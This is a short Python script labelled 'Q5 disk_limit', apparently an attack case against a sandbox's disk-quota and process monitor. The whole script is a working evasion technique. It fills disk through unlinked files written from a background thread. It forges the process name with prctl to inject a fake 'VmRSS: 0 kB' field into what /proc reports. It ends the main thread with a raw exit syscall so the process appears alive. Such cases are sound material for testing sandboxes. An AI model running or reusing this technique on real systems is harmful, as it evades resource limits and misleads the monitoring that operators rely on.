# Q5 disk_limit: files without a name, held by another thread, as the name of the first, which has ended, looks alive
import ctypes
import os
import threading
import time

libc = ctypes.CDLL(None)
EXIT = {"x86_64": 60, "aarch64": 93}[os.uname().machine]


def fill():
    time.sleep(0.3)
    for number in range(20):
        file = os.open(f"f{number}", os.O_CREAT | os.O_RDWR)
        os.unlink(f"f{number}")
        os.write(file, bytes(4 << 20))
    time.sleep(600)


print("attacking", flush=True)
libc.prctl(15, b"\x0cVmRSS:\t0 kB", 0, 0, 0)
threading.Thread(target=fill).start()
libc.syscall(EXIT, 0)
